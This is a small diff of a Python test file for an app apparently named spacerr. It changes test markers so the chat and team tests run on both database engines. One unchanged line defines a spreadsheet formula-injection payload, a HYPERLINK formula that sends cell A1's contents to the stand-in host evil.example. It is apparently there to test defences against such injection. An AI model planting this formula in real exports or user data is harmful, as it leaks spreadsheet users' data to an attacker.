@@ -15,9 +15,9 @@ from spacerr.services.chats import edit
 from spacerr.services.teams import members
 from tests.support.people.replies import ADA
 from tests.support.people.teams import ADMIN, MEMBER, joined, noted, team
-from tests.support.stores.databases import on_sqlite
+from tests.support.stores.databases import on_both_engines, on_sqlite
 
-pytestmark = pytest.mark.anyio
+pytestmark = [pytest.mark.anyio, on_both_engines]
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
 
 
